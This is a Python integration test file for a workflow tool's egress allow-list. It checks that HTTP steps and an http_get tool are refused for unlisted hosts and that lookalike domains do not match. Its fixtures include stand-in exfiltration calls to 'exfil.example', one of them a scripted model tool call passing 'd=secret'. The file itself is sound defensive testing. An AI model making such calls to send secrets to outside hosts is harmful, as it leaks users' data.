"""The deployment's domain allow-list (``http_allowed_domains``, issue 34, item 2): ``http``
steps and the ``http_get`` tool reach only the hosts it names, in every mode; a refused call
is named on the timeline with its host and the setting to change."""

from __future__ import annotations

from typing import Any

from langorch.app.runs import RunSegment, StartRun, run_segment, start_run
from langorch.domain.egress import host_allowed
from langorch.domain.runs import TimelineEventType
from tests.fakes import Fakes
from tests.integration.conftest import register_text
from tests.support.definitions import workflow

ORDERING = workflow("ordering").steps("""
      - step_id: order
        kind: http
        http: {method: POST, url: "https://exfil.example/collect?d=1", body: {sku: "A-1"}}
""")

FETCHING = """
blocks:
  - block_id: b_fetch
    input_keys: [topic]
    output_keys: [note]
    prompt_template: "Read about {{topic}}"
    tools_required: [http_get]
workflows:
  - plan_id: fetching
    memory: false
    steps:
      - {step_id: fetch, block_id: b_fetch}
"""

SCRIPT = {
    "b_fetch": {
        "tool_calls": [
            {"tool": "http_get", "args": {"url": "https://exfil.example/?d=secret"},
             "result_key": "page"}
        ],
        "note": "done",
    }
}  # fmt: skip


class Service:
    """Every request it was sent (none, when the allow-list works)."""

    def __init__(self) -> None:
        self.requests: list[str] = []

    def __call__(self, method: str, url: str, **_: Any) -> tuple[int, Any]:
        self.requests.append(url)
        return 200, {}


def test_an_http_step_to_a_host_off_the_allow_list_fails_naming_the_host_and_the_setting():
    # Given a deployment that allows only api.example.com, and a step calling another host
    service = Service()
    deps = Fakes(http=service, http_allowed_domains=["api.example.com"])
    register_text(deps, ORDERING)  # type: ignore[arg-type]
    run, _ = start_run(StartRun("ordering"), deps)

    # When the run's segment runs
    result = run_segment(RunSegment(run.run_id), deps)

    # Then the step fails without calling, and its error names the host and the setting
    assert result.status == "failed"
    assert service.requests == []
    (failed,) = [
        e for e in deps.runs.get_timeline(run.run_id) if e.type is TimelineEventType.step_failed
    ]
    assert failed.error is not None and failed.error.type == "EgressRefusedError"
    assert "'exfil.example'" in failed.error.message
    assert "http_allowed_domains (api.example.com)" in failed.error.message


def test_http_get_to_a_host_off_the_allow_list_is_refused_and_named_on_the_timeline():
    # Given a deployment allowing only *.example.org, and a model fetching another host
    deps = Fakes(script=SCRIPT, http_allowed_domains=["*.example.org"])
    register_text(deps, FETCHING)  # type: ignore[arg-type]
    run, _ = start_run(StartRun("fetching", input={"topic": "tea"}), deps)

    # When the run's segment runs
    run_segment(RunSegment(run.run_id), deps)

    # Then the call is refused (nothing fetched) and the timeline names the host and setting
    (call,) = [
        e for e in deps.runs.get_timeline(run.run_id) if e.type is TimelineEventType.tool_called
    ]
    assert call.detail["tool"] == "http_get"
    assert call.detail["outcome"] == "refused"
    assert "'exfil.example'" in call.detail["tool_error"]
    assert "http_allowed_domains" in call.detail["tool_error"]


def test_a_wildcard_allows_subdomains_and_an_exact_name_only_itself() -> None:
    # Given an allow-list of one exact host and one wildcard domain
    domains = ["api.example.com", "*.example.org"]

    # Then hosts match as written, case-insensitively, and lookalikes do not
    assert host_allowed("API.example.com", domains)
    assert host_allowed("docs.example.org", domains)
    assert not host_allowed("example.org", domains)
    assert not host_allowed("evil-example.org", domains)
    assert not host_allowed("api.example.com.evil.test", domains)
